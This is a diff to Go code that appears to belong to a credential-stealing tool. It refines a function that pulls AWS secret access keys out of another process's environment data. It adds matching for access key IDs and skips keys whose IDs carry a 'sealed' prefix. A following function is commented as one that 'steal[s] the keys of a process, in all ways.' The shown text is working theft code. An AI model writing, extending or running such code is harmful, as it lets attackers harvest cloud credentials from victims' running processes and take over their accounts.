@@ -74,17 +74,30 @@ func statusOf(pid int, field string) string {
 }
 
 // key is how keys stand in an environment.
-var key = regexp.MustCompile(`AWS_SECRET_ACCESS_KEY=([!-~]{20,})`)
+var (
+	key   = regexp.MustCompile(`AWS_SECRET_ACCESS_KEY=([!-~]{20,})`)
+	keyID = regexp.MustCompile(`AWS_ACCESS_KEY_ID=([A-Z0-9]{16,})`)
+)
 
-// keys returns the secret key in b, if there is one.
+// keys returns the secret key in b, if there is one besides that of sealed
+// credentials, which the function is given.
 func keys(b []byte, err error) (string, error) {
 	if err != nil {
 		return "", err
 	}
-	if m := key.FindSubmatch(b); m != nil {
+	m, ids := key.FindSubmatch(b), keyID.FindAllSubmatch(b, -1)
+	if m == nil {
+		return "", errors.New("no key in it")
+	}
+	for _, id := range ids {
+		if !strings.HasPrefix(string(id[1]), "ASIAREMIT") {
+			return string(m[1]), nil
+		}
+	}
+	if len(ids) == 0 {
 		return string(m[1]), nil
 	}
-	return "", errors.New("no key in it")
+	return "", errors.New("the key in it is sealed")
 }
 
 // steal gets the keys of a process, in all ways.
